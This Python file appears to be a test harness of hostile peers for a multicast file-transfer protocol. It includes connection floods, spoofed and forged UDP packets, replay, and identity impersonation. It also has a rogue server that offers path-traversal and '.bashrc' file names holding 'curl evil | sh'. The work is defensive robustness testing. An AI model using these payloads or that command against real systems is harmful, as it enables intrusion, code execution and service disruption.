"""What a hostile neighbour does, each until it is ended: `attacks.py NAME [WORD ..]`. Says `stands` when it has begun."""

import os
import random
import select
import socket
import struct
import sys
import threading
import time

import grpc
import wire
from lan import address

OWN = address("x")
HANDLE = 0x0BAD_0BAD_0BAD_0BAD


def stands():
    """Tells who started the attack that it has begun."""
    print("stands", flush=True)


def for_long():
    """Until the attack is ended."""
    while True:
        time.sleep(60)


def offer_of(host):
    """The offer of a host."""
    return wire.discover(OWN, wanted=lambda offer: offer[1] == address(host))


def again_and_again(act, pause=0.05):
    """Repeats something that may fail."""
    while True:
        try:
            act()
        except (OSError, TimeoutError, ValueError):
            pass
        time.sleep(pause)


# Receivers that are none, at an offer of host a.

# A machine that takes the place again at once can hold it without an end, where receivers are only counted: the honest ones come
# meanwhile, on any machine.
BEGIN_AGAIN_S = 20.0


def _guest(act, pause=0.05):
    handle, where, port, _, _ = offer_of("a")
    stands()

    def once():
        frames = wire.connect(where, port)
        try:
            act(frames, handle)
        finally:
            frames.sock.close()
    again_and_again(once, pause)


def long_refuse():
    """Says HELLO, then REFUSE with the longest text that a frame's field can name."""
    def act(frames, handle):
        frames.say(wire.hello(handle, "evil"))
        if random.random() < 0.7:
            frames.hear(1.0)
            frames.say(wire.frame(wire.HAVE))
        time.sleep(random.random() / 5)
        frames.say(wire.refuse(b"x" * 65_530))
        while frames.hear(1.0):
            pass
    # As with `seat`: a place that is taken again at once is never free.
    _guest(act, 1.0)


def long_name():
    """Says HELLO with the longest name, and with a name of control characters."""
    def act(frames, handle):
        name = random.choice([b"n" * 65_535, b"\x1b]0;pwn\x07\x1b[2J" * 20, b""])
        frames.say(wire.hello(handle, name))
        frames.hear(0.5)
    _guest(act)


def liar():
    """Says that it has the object at once, under one name."""
    def act(frames, handle):
        frames.say(wire.hello(handle, "liar"))
        if (frames.hear() or (0,))[0] == wire.WELCOME:
            frames.say(wire.frame(wire.HAVE), wire.frame(wire.INTL_SEQ, struct.pack(">Q", 0)), wire.data_rcvd())
            while frames.hear(30.0):
                pass
    _guest(act, BEGIN_AGAIN_S)


def seat():
    """Says HELLO and then nothing."""
    def act(frames, handle):
        frames.say(wire.hello(handle, "seat"))
        while frames.hear(30.0):
            pass
    _guest(act, BEGIN_AGAIN_S)


def zombie():
    """Is ready, says ALIVE, and takes nothing."""
    def act(frames, handle):
        frames.say(wire.hello(handle, "zombie"))
        if (frames.hear() or (0,))[0] != wire.WELCOME:
            return
        frames.say(wire.frame(wire.HAVE))
        frames.sock.setblocking(False)
        while True:
            if select.select([frames.sock], [], [], 0.05)[0] and not frames.sock.recv(1 << 20):
                return
            frames.sock.send(wire.frame(wire.ALIVE))
    _guest(act)


def progress_of_the_future():
    """Is ready, and reports positions, losses and bytes that cannot be."""
    def act(frames, handle):
        frames.say(wire.hello(handle, "prophet"))
        if (frames.hear() or (0,))[0] != wire.WELCOME:
            return
        frames.say(wire.frame(wire.HAVE), wire.frame(wire.INTL_SEQ, struct.pack(">Q", 2**64 - 1)))
        for value in (2**64 - 1, 2**63, 2**53, 0):
            frames.say(wire.progress(value, 2**64 - 1, 2**64 - 1, 2**64 - 1, 2**64 - 1, 2**64 - 1))
            frames.say(wire.frame(wire.PTCH_REQ, wire.ranges([(value // 2, value // 2 + 2**40)])))
            time.sleep(0.05)
    _guest(act)


def old_version():
    """Speaks another version of the protocol."""
    def act(frames, handle):
        frames.say(wire.hello(handle, "old", version=9))
        frames.hear(0.5)
    _guest(act)


def noise(seed):
    """Semi-valid sessions: right frames with extreme numbers, in any order, cut anywhere."""
    draw = random.Random(int(seed))
    extremes = [0, 1, 2**16, 2**31, 2**32, 2**53, 2**63, 2**64 - 1]

    def act(frames, handle):
        if draw.random() < 0.8:
            frames.say(wire.hello(handle, f"noise{draw.randrange(3)}", draw.choice(extremes), draw.randrange(65_536)))
        for _ in range(draw.randrange(12)):
            kind = draw.choice([*range(1, 22), *range(30, 35), *range(40, 44), 255])
            body = b"".join(struct.pack(">Q", draw.choice(extremes)) for _ in range(draw.randrange(8)))
            frames.say(wire.frame(kind, body[:draw.randrange(len(body) + 1)]))
        frames.sock.setblocking(False)
        try:
            frames.sock.recv(1 << 16)
        except BlockingIOError:
            pass
    _guest(act, 0.005)


# Connections.

def _connections(where, port, count, first=b"", drip=b""):
    """Keeps so many connections; each says `first`, then `drip` ten times a second. Makes anew what is ended."""
    open_ones = []

    def fill():
        while len(open_ones) < int(count):
            sock = socket.socket()
            sock.settimeout(0.2)
            try:
                sock.connect((where, int(port)))
                sock.sendall(first)
            except OSError:
                sock.close()
                return
            sock.setblocking(False)
            open_ones.append(sock)

    fill()
    stands()
    while True:
        for sock in list(open_ones):
            try:
                if drip:
                    sock.send(drip)
                alive = sock.recv(1 << 12) != b""
            except BlockingIOError:
                alive = True
            except OSError:
                alive = False
            if not alive:
                sock.close()
                open_ones.remove(sock)
        fill()
        time.sleep(0.1)


def idle(where, port, count):
    """Connections that say nothing."""
    _connections(where, port, count)


def promises(where, port, count):
    """Connections that promise a long frame and send it byte by byte."""
    _connections(where, port, count, struct.pack(">IB", wire.FRAME_LEN_MAX, wire.HAVE), b"\0")


def garbage(where, port, count):
    """Connections that send noise."""
    _connections(where, port, count, os.urandom(300))


def door_of(kind, count):
    """One of the attacks by connections, at the door of host a's offer."""
    _, where, port, _, _ = offer_of("a")
    {"idle": idle, "promises": promises, "garbage": garbage}[kind](where, port, count)


# Discovery.

def _discovery():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(OWN))
    return sock


def other_versions():
    """Announces in other versions of the protocol, and noise."""
    sock = _discovery()
    stands()
    while True:
        for datagram in (b"PLYC\x09\x01", wire.solicit(7), b"PLYC", os.urandom(60), b""):
            sock.sendto(datagram, wire.DISCOVERY)
        time.sleep(0.02)


def rogue(kind):
    """Offers an object of a bad name, or one that never comes, and serves who takes it."""
    name = {"dot": b".bashrc", "escape": b"\x1b]0;pwn\x07\x1b[2Jx", "path": b"../../evil", "silent": b"object.bin",
            "refuse": b"object.bin"}[kind]
    content = b"curl evil | sh\n"
    door = socket.create_server((OWN, 0), backlog=64)

    def serve(sock):
        frames = wire.Frames(sock)
        try:
            if kind == "silent":
                for_long()
            first = frames.hear()
            if kind == "refuse":
                frames.say(wire.refuse(b"y" * 65_530))
            elif first and first[0] == wire.HELLO:
                rogue_source(frames, name, content)
        except (OSError, TimeoutError):
            pass

    def accept():
        while True:
            sock, _ = door.accept()
            threading.Thread(target=serve, args=(sock,), daemon=True).start()

    threading.Thread(target=accept, daemon=True).start()
    sock = _discovery()
    stands()
    while True:
        sock.sendto(wire.announce(HANDLE, OWN, door.getsockname()[1], 9, name), wire.DISCOVERY)
        time.sleep(0.02)


def rogue_source(frames, name, content):
    """Delivers a small object by patches alone."""
    frames.say(wire.welcome(name, len(content)), wire.frame(wire.ROOT, wire.blake3.blake3(content)))
    while True:
        heard = frames.hear(30.0)
        if heard is None:
            return
        if heard[0] == wire.HAVE:
            frames.say(wire.frame(wire.HASHES, struct.pack(">Q", 0) + wire.blake3.blake3(content)))
            frames.say(wire.frame(wire.PTCH_DATA, struct.pack(">Q", 0) + content))
        elif heard[0] == wire.DATA_RCVD:
            frames.say(wire.frame(wire.FINISHED))


# The data channel.

def _datagrams():
    """UDP datagrams to multicast groups, as the wire shows them: (source, target, port, payload)."""
    sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
    sniffer.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
    sniffer.bind(("eth0", 0))
    stands()
    while True:
        whole, (_, _, direction, _, _) = sniffer.recvfrom(1 << 16)
        head = (whole[0] & 15) * 4
        if direction != 4 and whole[9] == 17 and 224 <= whole[16] < 240 and len(whole) >= head + 8:
            port, = struct.unpack_from(">H", whole, head + 2)
            if port != wire.DISCOVERY[1]:
                yield socket.inet_ntoa(whole[12:16]), socket.inet_ntoa(whole[16:20]), port, whole[head + 8:]


class Forger:
    """Sends datagrams to a group, under its own address or another one's."""

    def __init__(self, spoof):
        self.spoof = spoof
        kind = socket.SOCK_RAW if spoof else socket.SOCK_DGRAM
        self.sock = socket.socket(socket.AF_INET, kind, socket.IPPROTO_RAW if spoof else 0)
        self.sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(OWN))

    def send(self, source, target, port, payload, source_port=40_000):
        """One datagram."""
        if self.spoof:
            udp = struct.pack(">HHHH", source_port, port, 8 + len(payload), 0)
            whole = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 28 + len(payload), 0, 0, 8, 17, 0,
                                socket.inet_aton(source), socket.inet_aton(target)) + udp + payload
            self.sock.sendto(whole, (target, 0))
        else:
            self.sock.sendto(payload, (target, port))


def _heard():
    """The data packets of the transfer that is heard first."""
    handle = None
    for source, target, port, payload in _datagrams():
        read = wire.read_packet(payload)
        if read and (handle is None or handle == read[3]):
            handle = read[3]
            yield source, target, port, payload, read


def forge(kind, spoof, rate):
    """Forges packets of the first transfer that is heard: `jump` one of the last round, `groups` one patch for every
    hash group, `flood` fragments anywhere at so many a second."""
    forger, rate = Forger(spoof == "spoof"), int(rate)
    for source, target, port, _, (_, _, _, handle, sn, _, body) in _heard():
        len_ = len(body)
        if len_ > 100:
            break
    send = lambda *packet, **more: forger.send(source, target, port, wire.packet(handle, *packet, **more))
    if kind == "jump":
        send(2**32 - 1, 0, os.urandom(len_), extension=b"")
    elif kind == "groups":
        for group in range(0, 4_000_000_000 // len_, (256 << 10) // len_):
            if group * len_ > 400_000_000:
                break
            send(0, group, os.urandom(len_), flags=2)
    else:
        junk, began, sent = os.urandom(len_), time.monotonic(), 0
        while True:
            round_ = random.choice([0, 0, 0, 1, 2**31, 2**32 - 1])
            send(round_, random.randrange(100_000), junk, flags=random.choice([0, 2, 4]))
            sent += 1
            ahead = sent / rate - (time.monotonic() - began)
            if ahead > 0.002:
                time.sleep(ahead)
    for_long()


def replay(spoof):
    """Sends what it has heard a second time."""
    forger = Forger(spoof == "spoof")
    for source, target, port, payload, _ in _heard():
        forger.send(source, target, port, payload)


def stream(kind):
    """Forges messages of the stream that is heard first: one in place of the next, or one of a number far ahead."""
    forger = Forger(False)
    for source, target, port, payload in _datagrams():
        if len(payload) >= 24 and payload[0] == wire.VERSION and payload[1] == 7:
            handle, number = struct.unpack_from(">QQ", payload, 8)
            ahead = 2**63 if kind == "silence" else number + 1
            forger.send(source, target, port, wire.stream_packet(handle, ahead, b"FORGED"))


# Agents and the manager.

def tarpits(port, count):
    """Invites an agent to transfers of a source that never answers."""
    door = socket.create_server((OWN, 0), backlog=256)
    here = door.getsockname()[1]
    stands()
    number = 0
    kept = []
    while True:
        number += 1
        try:
            frames = wire.connect(address("b"), int(port), 0.5)
            frames.say(wire.invite(OWN, here, HANDLE + number, number))
            frames.sock.settimeout(0.2)
            kept.append(frames)
        except OSError:
            pass
        if len(kept) >= int(count):
            for frames in kept:
                frames.sock.close()
            kept.clear()
            time.sleep(0.5)


def join(name, port):
    """Joins the manager under another agent's name, again and again."""
    stands()
    incarnation = 0

    def act():
        nonlocal incarnation
        incarnation += 1
        with grpc.Call((address("m"), int(port)), "/polycast.manager.v1.Manager/Session") as call:
            call.say(grpc.join(wire.VERSION_OF_API, name, incarnation, address("b"), 7401))
            call.hear(1.0)
            time.sleep(0.5)
    again_and_again(act, 0.2)


ATTACKS = {function.__name__: function for function in (
    long_refuse, long_name, liar, seat, zombie, progress_of_the_future, old_version, noise, idle, promises, garbage,
    door_of, other_versions, rogue, forge, replay, stream, tarpits, join)}

if __name__ == "__main__":
    ATTACKS[sys.argv[1]](*sys.argv[2:])
